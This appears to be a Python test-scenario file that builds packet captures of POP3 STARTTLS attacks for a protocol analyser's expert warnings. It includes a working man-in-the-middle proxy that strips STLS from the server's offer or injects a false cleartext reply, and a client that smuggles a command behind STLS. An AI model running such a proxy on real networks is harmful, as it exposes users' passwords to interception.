"""Attacks on STLS: it is struck from the list, or octets are smuggled in around it.
SPDX-License-Identifier: GPL-2.0-or-later
"""
import mails
import servers
import stage

# Sits between client and server with the server's address (as after ARP spoofing) and edits what
# the server says. Only the capture's client is fooled: everything happens within the scene.
MIDDLE = """
import socket, sys, threading

def pump(source, target, change):
    while True:
        data = source.recv(65536)
        if not data:
            break
        target.sendall(change(data))
    for end in (source, target):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

def strip(data):
    return data.replace(b"STLS\\r\\n", b"")

def inject(data):
    if data.startswith(b"+OK Begin TLS"):
        return data + b"-ERR [SYS/TEMP] Try another server\\r\\n"
    return data

change = {"strip": strip, "inject": inject, "pass": bytes}[sys.argv[1]]
listener = socket.create_server(("", 110))
while True:
    client, _ = listener.accept()
    server = socket.create_connection(("v6.pop.example.com", 110))
    threading.Thread(target=pump, args=(client, server, bytes), daemon=True).start()
    threading.Thread(target=pump, args=(server, client, change), daemon=True).start()
"""
STLS = """
import poplib, ssl
context = ssl.create_default_context(cafile="/root/ca.pem")
context.keylog_filename = "/root/keys"
pop = poplib.POP3("pop.example.com")
pop.stls(context)
pop.user("alice")
pop.pass_("wonderland")
pop.retr(1)
pop.quit()
"""
# The client side of an injection: a command in the clear behind STLS, in the same segment. It
# stands for an attacker on the way who adds it.
BEHIND = """
import socket, ssl
context = ssl.create_default_context(cafile="/root/ca.pem")
context.keylog_filename = "/root/keys"
peer = socket.create_connection(("pop.example.com", 110))
print(peer.recv(1000))
peer.sendall(b"STLS\\r\\nUSER mallory\\r\\n")
print(peer.recv(1000))
try:
    peer = context.wrap_socket(peer, server_hostname="pop.example.com")
    peer.sendall(b"QUIT\\r\\n")
    print(peer.recv(1000))
except ssl.SSLError as error:   # this server takes the extra octets as part of TLS, and ends
    print(error)
"""
CURL = "curl -sS --ssl --cacert /root/ca.pem -u alice:wonderland pop3://pop.example.com/1"
PARTS = {
    "stls-honest": ("pass", "curl", "STLS is offered, and the client takes it. Compare with stls-stripped.",
                    'pop.capability.name == "STLS"'),
    "stls-stripped": ("strip", "curl", "The same client and server; somebody between them strikes STLS"
                      " from the list, and the client goes on in the clear.",
                      "pop.expert.cleartext_password"),
    "stls-injected-reply": ("inject", "poplib", "Somebody puts a false reply behind the answer to STLS, in the"
                            " clear.", "pop.expert.cleartext_after_stls"),
    "stls-injected-command": ("pass", "script", "A command in the clear rides in the same segment as STLS. This"
                              " server takes it as part of TLS, and ends.", "pop.expert.cleartext_after_stls"),
}


def act(client, program):
    if program == "curl":  # --ssl: with TLS if it can be had
        client.sh(CURL, env={"SSLKEYLOGFILE": "/root/keys"})
    else:
        client.python(STLS if program == "poplib" else BEHIND)


def play(_):
    for name, (way, program, shows, tries) in PARTS.items():
        if not stage.wanted(name):
            continue
        with stage.part() as part:
            more = "disable_plaintext_auth = no\n"
            server = servers.Dovecot(part, {"alice": mails.everyday(1)}, tls=True, more=more)
            client = part.machine("alice-pc.example.org")
            client.write("/root/ca.pem", server.machine.read("/etc/dovecot/pop.crt"))
            if way != "pass":
                stranger = part.machine("stranger.example.net", address_of="pop.example.com")
                stranger.write("/root/middle.py", MIDDLE)
                stranger.start(["python3", "/root/middle.py", way])
                stranger.wait_for_port(110)
            part.connect(seed=13, alice_pc="delay=12,jitter=2")
            label = "a small script of ours" if program == "script" else client.client(program)
            with part.capture(name, client, server=server.describe(), client=label, shows=shows,
                              tries=tries) as capture:
                act(client, program)
                if program != "script":
                    capture.truth(server.truth("alice"))
                if client.path("/root/keys").exists():
                    capture.keys_from(client, "/root/keys")
